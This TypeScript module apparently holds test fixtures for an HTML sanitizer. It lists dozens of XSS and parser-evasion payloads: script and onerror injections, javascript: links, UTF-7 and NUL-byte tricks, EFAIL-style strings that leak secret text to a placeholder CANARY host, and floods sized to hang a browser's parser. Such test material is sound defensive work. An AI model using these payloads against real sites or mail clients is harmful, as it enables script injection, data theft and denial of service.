import type { Vectors } from './vector.ts'

const megabyte = 1_000_000
const fill = (text: string, size = megabyte) => text.repeat(Math.ceil(size / text.length))

export const brokenVectors: Vectors = {
  'conditional comment': '<!--[if gte mso 9]><script>PWN</script><img src="https://CANARY/mso.gif"><![endif]-->',
  'conditional comment, revealed': '<![if !mso]><img src="https://CANARY/revealed.gif"><![endif]>',
  'conditional comment of an old browser':
    '<!--[if IE]><script>PWN</script><![endif]--><comment><img src=x onerror=PWN></comment>',
  VML: '<v:rect xmlns:v="urn:schemas-microsoft-com:vml"><v:fill src="https://CANARY/vml.gif" /><v:imagedata src="https://CANARY/d.gif"/></v:rect>',
  'CDATA in HTML': '<![CDATA[<img src=x onerror=PWN>]]>',
  'NUL in a tag': '<scr\u0000ipt>PWN</scr\u0000ipt><img src=x on\u0000error=PWN>',
  'NUL as an entity': '<img src=x o&#0;nerror=PWN><a href="java&#x00;script:PWN">x</a>',
  'control characters in a tag': '<img\u000bsrc=x\u000conerror=PWN><\u0001script>PWN</script>',
  'lone surrogates': '<p title="\uD800">\uDC00</p><img src="https://CANARY/\uD800.gif">',
  'no characters': '\uFFFE\uFFFF<img src=x onerror=PWN>\uFFFD',
  'UTF-7': '<meta charset="utf-7">+ADw-script+AD4-PWN+ADw-/script+AD4-',
  'UTF-7 by an equivalent':
    '<meta http-equiv=Content-Type content="text/html; charset=utf-7">+ADw-img src+AD0-x onerror+AD0-PWN+AD4-',
  'ISO-2022-JP': '<meta charset="iso-2022-jp"><img title="\u001b$B" src="x\u001b(B" onerror=PWN>',
  'letters that grow in capitals': '<\u017fcript>PWN</\u017fcript><\u017fvg onload=PWN>',
  'tag without an end': '<img src=x onerror=PWN',
  'tag without an end, then text': '<img src="https://CANARY/open.gif" onerror=PWN <p>Dear all',
  'tag within a tag': '<<script>PWN//<</script>',
  'tag after a bracket': '<p/"><img src=x onerror=PWN>">x</p>',
  'quotes that do not match': '<img src="x\' onerror=PWN \'">',
  'quotes of three kinds': '<img src=`x` onerror=PWN title=\'"`>',
  'attribute without a value': '<img src onerror=PWN><a href>x</a>',
  'attributes without a blank between': '<img src="x"onerror="PWN">',
  'blank before the name': '< script >PWN</ script >',
  'end without a beginning': '</script></style></title></textarea></noscript><script>PWN</script>',
  'document in a document': '<html><html onload=PWN><head><head><body><body onload=PWN><html></html>',
  'two bodies': '<body bgcolor=red onload=PWN></body><body background="https://CANARY/second.gif" onload=PWN>',
  'entities twice': '&amp;lt;script&amp;gt;PWN&amp;lt;/script&amp;gt;&lt;script&gt;PWN&lt;/script&gt;',
  'MIME in the body': 'Content-Type: text/html\r\n\r\n<script>PWN</script>\r\n--x\r\n',
  EFAIL: '<img src="https://CANARY/efail?\r\n-----BEGIN PGP MESSAGE-----\r\nsecret\r\n-----END PGP MESSAGE-----\r\n">',
  'EFAIL by a link':
    '<link rel=stylesheet href="https://CANARY/efail.css?\r\nsecret\r\n"><a href="https://CANARY/efail?secret">x</a>',
  'depth of elements': `${'<div>'.repeat(6000)}<img src=x onerror=PWN>`,
  'depth of tables': `${'<table><tr><td>'.repeat(400)}<script>PWN</script>`,
  'depth of SVG and MathML': `${'<svg><foreignObject><math><mi>'.repeat(150)}<style><a title="</style><img src=x onerror=PWN>">`,
  'depth of quotes': `${'<blockquote>'.repeat(700)}<img src=x onerror=PWN>`,
  'depth of shadows': `${'<div><template shadowrootmode=open>'.repeat(60)}<script>PWN</script>`,
  'flood of brackets': `${fill('<', 200_000)}<script>PWN</script>`,
  'megabyte in one attribute': `<p title="${fill('x')}" onclick=PWN><img src=x onerror=PWN>`,
  'megabyte of blanks in an attribute': `<img src=${fill(' ')}x onerror=PWN><p style="background:url(${fill(' ')}x)">x</p>`,
  'flood of text before': `${fill('a ', 200_000)}<script>PWN</script>`,
  'flood of attributes': `<p ${fill('on x=y ', 200_000)}><img src=x onerror=PWN>`,
  'flood of links': fill('<a href="javascript:PWN">x</a><br>', 100_000),
}

/** Takes a browser minutes to parse. */
export const endlessVectors: Vectors = {
  'megabyte of formatting': `${fill('<b><i><u><a>')}<img src=x onerror=PWN>`,
  'megabyte of comments': `${fill('<!---->')}<img src=x onerror=PWN>`,
  'flood of links in links': `${fill('<a><div>')}<img src=x onerror=PWN>`,
  'flood of elements whose end is barred': `${fill('<span><button></span></button>')}<img src=x onerror=PWN>`,
}
